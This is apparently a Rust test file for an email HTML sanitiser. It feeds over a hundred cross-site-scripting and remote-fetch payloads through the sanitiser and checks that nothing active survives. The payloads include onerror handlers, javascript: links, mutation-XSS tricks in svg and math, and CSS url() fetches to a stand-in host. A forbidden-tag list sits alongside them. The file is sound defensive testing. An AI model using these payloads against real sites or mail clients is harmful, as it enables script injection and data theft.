//! Attempts to get something past the sanitiser.

use crate::mails::FIXTURES;
use proptest::prelude::*;
use wire::html::{Sanitised, sanitise, to_text};

fn clean(html: &str) -> Sanitised {
    sanitise(html, &|id| Some(format!("/pictures/{id}")))
}

/// Every tag of sanitised HTML: its name and its attributes. In it `<` and `>` stand in tags only.
fn tags(html: &str) -> Vec<(String, Vec<(String, String)>)> {
    let mut tags = Vec::new();
    for piece in html.split('<').skip(1) {
        let (tag, _) = piece.split_once('>').expect("every tag ends");
        let (name, mut rest) = tag.split_once(' ').unwrap_or((tag, ""));
        let mut attributes = Vec::new();
        while let Some((key, tail)) = rest.split_once("=\"") {
            let (value, tail) = tail.split_once('"').expect("every value ends");
            attributes.push((key.trim().to_owned(), value.replace("&amp;", "&").replace("&quot;", "\"")));
            rest = tail;
        }
        assert_eq!(rest.trim(), "", "{tag}");
        tags.push((name.trim_start_matches('/').to_owned(), attributes));
    }
    tags
}

const FORBIDDEN: [&str; 27] = [
    "script",
    "style",
    "svg",
    "math",
    "form",
    "input",
    "button",
    "textarea",
    "select",
    "iframe",
    "frame",
    "object",
    "embed",
    "applet",
    "meta",
    "base",
    "link",
    "template",
    "noscript",
    "video",
    "audio",
    "source",
    "title",
    "xmp",
    "plaintext",
    "html",
    "body",
];

/// What holds for everything that was sanitised.
pub(crate) fn is_harmless(html: &str) -> Result<(), TestCaseError> {
    let once = clean(html);
    for (name, attributes) in tags(&once.html) {
        prop_assert!(!FORBIDDEN.contains(&name.as_str()), "<{name}> from {html}");
        for (key, value) in attributes {
            let lower = value.to_ascii_lowercase();
            prop_assert!(
                !key.starts_with("on") && key != "id" && key != "class" && key != "srcset" && key != "background",
                "{key} from {html}"
            );
            match key.as_str() {
                "src" => prop_assert!(value.starts_with("/pictures/"), "{value} from {html}"),
                "href" => prop_assert!(["http:", "https:", "mailto:", "tel:"].iter().any(|s| lower.starts_with(s)), "{value} from {html}"),
                "data-remote" => prop_assert!(lower.starts_with("http"), "{value} from {html}"),
                "style" => {
                    for bad in ["url", "expression", "position", "@", "\\", "/*", "import", "var(", "javascript"] {
                        prop_assert!(!lower.contains(bad), "{value} from {html}");
                    }
                }
                "alt" | "title" => {}
                _ => prop_assert!(!lower.contains("javascript:") && !lower.contains("//"), "{key}={value} from {html}"),
            }
        }
    }
    let without = sanitise(html, &|_| None);
    let again = sanitise(&without.html, &|_| None);
    prop_assert_eq!(&again.html, &without.html, "again, from {}", html);
    prop_assert_eq!(again.remote_images, without.remote_images);
    to_text(html);
    Ok(())
}

/// Written for this test: each tries to run a script, to fetch something or to break out.
const ATTACKS: &[&str] = &[
    // plain
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/a.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src='x'onerror='alert(1)'>",
    "<img src=\"x\" OnErRoR\n=\nalert(1)>",
    "<img src=x onerror\u{0C}=alert(1)>",
    "<body onload=alert(1)>x",
    "<div onmouseover=alert(1) onpointerenter=alert(1)>x</div>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<p/onclick=alert(1)>x",
    "<a href=x \"onclick=alert(1)>y</a>",
    "<b \0onclick=alert(1)>x</b>",
    // addresses
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "<a href=\"java&#10;script:alert(1)\">x</a>",
    "<a href=\"&#106;avascript&colon;alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;vascript:alert(1)\">x</a>",
    "<a href=\"\u{1}javascript:alert(1)\">x</a>",
    "<a href=\"javascript&Tab;:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"//x.example/\">x</a>",
    "<a href=\"/admin\">x</a>",
    "<a href=\"#x\">x</a>",
    "<a href=\"cid:x\">x</a>",
    "<a href=\"https:javascript:alert(1)\">x</a>",
    "<a href=https://x.example target=_self rel=opener ping=//x.example>x</a>",
    "<area href=javascript:alert(1)><map name=x></map>",
    "<form action=javascript:alert(1)><input type=submit><button formaction=javascript:alert(1)>x</button></form>",
    "<iframe src=javascript:alert(1)></iframe><iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=javascript:alert(1)></object><embed src=//x.example/x.swf>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=//x.example/><a href=y>x</a>",
    "<link rel=stylesheet href=//x.example/a.css>",
    // pictures and other fetches
    "<img src=//x.example/p.gif>",
    "<img src=\"\thttps://x.example/p.gif\">",
    "<img srcset='//x.example/p.gif 2x' sizes=1px>",
    "<picture><source srcset=//x.example/p.gif><img src=x></picture>",
    "<img src=\"cid:a\" src=//x.example/p.gif>",
    "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<img data-remote=\"javascript:alert(1)\">",
    "<img data-remote='\"><script>alert(1)</script>'>",
    "<img lowsrc=//x.example dynsrc=//x.example longdesc=javascript:alert(1)>",
    "<table background=//x.example/p.gif><td background=//x.example/p.gif>x</table>",
    "<video poster=//x.example/p.gif src=//x.example/v></video><audio src=//x.example/a autoplay></audio>",
    "<input type=image src=//x.example/p.gif>",
    "<blockquote cite=//x.example>x</blockquote>",
    // styles
    "<div style='background:url(//x.example/p.gif)'>x</div>",
    "<div style='background:u\\72 l(//x.example)'>x</div>",
    "<div style=\"background:&#117;rl('//x.example')\">x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9'>x</div>",
    "<div style=\"color:red;}</style><script>alert(1)</script>\">x</div>",
    "<div style=\"list-style:url(javascript:alert(1))\">x</div>",
    "<div style=\"font-family:'x;background:url(//x.example)'\">x</div>",
    "<div style='background:/*x*/url(//x.example)'>x</div>",
    "<div style='--a:url(//x.example);background:var(--a)'>x</div>",
    "<style>@import '//x.example/a.css';</style>",
    "<style>input[value^=a]{background:url(//x.example/a)}</style>",
    "<style><img src=x onerror=alert(1)></style>",
    "<style></style\t><img src=x onerror=alert(1)>",
    // other namespaces and parsers that disagree
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) />",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><![CDATA[<img src=x onerror=alert(1)>]]></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<form><form><p></form><img src=x onerror=alert(1)></form>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script><img src=x onerror=alert(1)></template>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\">",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--->.<img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!-- > --><img src=x onerror=alert(1)><!---->",
    "<![if IE]><script>alert(1)</script><![endif]>",
    "<?xml version=1?><img src=x onerror=alert(1)>",
    "</ <img src=x onerror=alert(1)>",
    "<a title=\"<!--\"><img src=x onerror=alert(1)>--></a>",
    "<p title='\"><script>alert(1)</script>'>x</p>",
    "<p title=`><img src=x onerror=alert(1)>`>x</p>",
    "<img alt=\"`><script>alert(1)</script>\" src=x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "<table><script>alert(1)</script><tr><td><svg/onload=alert(1)></table>",
    "<table><a href=javascript:alert(1)>x<table><img src=x onerror=alert(1)>",
    "<a><table><a><b><table></a></b><td><a>x",
    "<b><p><i><table></b></p></i><td>x</b>",
    // clobbering and names
    "<a id=body name=cookie>x</a><img name=getElementById id=x class=y>",
    "<div class=\"btn btn-primary\" id=root data-x=1 aria-label=y role=alert is=x slot=y part=z contenteditable tabindex=1>x</div>",
    "<p lang=\"javascript:alert(1)\" dir=\"ltr\">x</p>",
    "<font color=\"expression(alert(1))\" face=\"x:y\" size=\"7;\">x</font>",
    "<img src=x",
    "<a href=\"https://x.example",
];

#[test]
fn attacks_leave_nothing_that_acts() {
    assert!(ATTACKS.len() >= 100);
    for attack in ATTACKS {
        for html in [
            (*attack).to_owned(),
            format!("<div><p>{attack}"),
            format!("<table><tr><td>{attack}</td></tr></table>x"),
            format!("a&amp;{attack}b"),
        ] {
            is_harmless(&html).unwrap_or_else(|error| panic!("{error}"));
        }
    }
}

#[test]
fn what_people_write_stays() {
    let check = |html: &str, expected: &str| assert_eq!(clean(html).html, expected, "{html}");
    check("<p>Hello <b>you</b> &amp; me</p>", "<p>Hello <b>you</b> &amp; me</p>");
    check(
        "<a href=\"https://x.example/?a=1&b=2\" onclick=x>y</a>",
        "<a rel=\"noopener noreferrer nofollow\" target=\"_blank\" href=\"https://x.example/?a=1&amp;b=2\">y</a>",
    );
    check("<font color=\"#ff0000\" face=\"Arial, sans-serif\">x</font>", "<font color=\"#ff0000\" face=\"Arial, sans-serif\">x</font>");
    check("<td>stray</td>", "stray");
    check("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>");
    check("<img src=\"CID:a%20b\" alt=\"x\">", "<img src=\"/pictures/a b\" alt=\"x\">");
    check("<o:p>Word</o:p><![if !x]> says<![endif]>", "Word says");
}

#[test]
fn pictures_that_nobody_knows_are_not_shown() {
    let none = sanitise("<img src=cid:x alt=logo><img src=https://x.example/p.gif>", &|_| None);
    assert_eq!(none.html, "<img alt=\"logo\"><img data-remote=\"https://x.example/p.gif\">");
    assert_eq!(none.remote_images, 1);
}

#[test]
fn text_can_be_read() {
    let check = |html: &str, expected: &str| assert_eq!(to_text(html), expected, "{html}");
    check("<p>a</p><p>b<br>c</p>", "a\n\nb\nc");
    check("a <b>b</b>\n  c", "a b c");
    check("<ol start=3><li>a<li>b<ul><li>c</ul></ol>", "3. a\n4. b\n  - c");
    check("<blockquote>a<blockquote>b</blockquote></blockquote>c", "> a\n\n> > b\n\nc");
    check("<a href=https://x.example/y>here</a>, <a href=https://x.example/>x.example</a>", "here <https://x.example/y>, x.example");
    check("<a href=mailto:a@b.example>a@b.example</a> <a href=mailto:a@b.example>mail</a>", "a@b.example mail <a@b.example>");
    check("<pre>a\n  b\n</pre>c", "a\n  b\n\nc");
    check("<table><tr><td>a<td>b<tr><td>c</table>", "a b\nc");
    check("<img src=x alt=Logo> &lt;b&gt; &amp;lt; &euro;", "[Logo] <b> &lt; €");
    check("<script>x</script><style>y</style>", "");
}

#[test]
fn size_and_depth_do_not_hurt() {
    let big = clean(&"<p>word &amp; word</p>".repeat(50_000));
    assert!(big.html.len() <= wire::html::LONGEST_HTML && big.html.len() > 500_000);
    for long in ["x", "&", "<a href='http://&&&&&&'>"] {
        let long = clean(&long.repeat(1_100_000 / long.len()));
        assert!((900_000..=wire::html::LONGEST_HTML).contains(&long.html.len()) && !long.html.starts_with("<pre>"), "{}", long.html.len());
    }
    let deep = ["<div>", "<b>", "<table><tr><td>", "<blockquote>", "<a href=x>", "<p><b>", "<ul><li>", "<font><p>"];
    for element in deep {
        clean(&element.repeat(5_000));
    }
    // What makes parsers repair: formatting left open, content between the tags of tables.
    let open: Vec<String> = (0..90).map(|n| format!("<font size={n}>")).collect();
    clean(&format!("<div>{}</div>{}", open.concat(), "<div>x</div>".repeat(10_000)));
    clean(&format!("<table>{}", "<b>x</b>".repeat(10_000)));
    clean(&"<!--".repeat(100_000));
    clean(&"<script>".repeat(100_000));
    clean(&"<a b='".repeat(100_000));
    clean(&"</".repeat(100_000));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn mixed_attacks_leave_nothing_either(
        pieces in prop::collection::vec((prop::sample::select(ATTACKS.to_vec()), 0..200_usize, 0..200_usize), 1..5),
    ) {
        let html: String = pieces.iter().map(|(attack, from, length)| {
            attack.chars().skip(from % attack.chars().count()).take(*length).collect::<String>()
        }).collect();
        is_harmless(&html)?;
    }

    #[test]
    fn random_markup_is_harmless(html in "(<(/)?(p|b|a|div|table|tr|td|caption|tbody|li|ul|dd|h1|pre|font|svg|style|img|br)( style=\"color:red\"| href=\"http://x\"| src=\"y\"| onx=1)?>|x|&lt;|&| |\n|<!--|-->){0,40}") {
        is_harmless(&html)?;
    }

    #[test]
    fn any_text_is_harmless(nth in 0..FIXTURES.len(), html in "\\PC{0,200}") {
        is_harmless(&html)?;
        is_harmless(&String::from_utf8_lossy(FIXTURES[nth].1))?;
    }
}
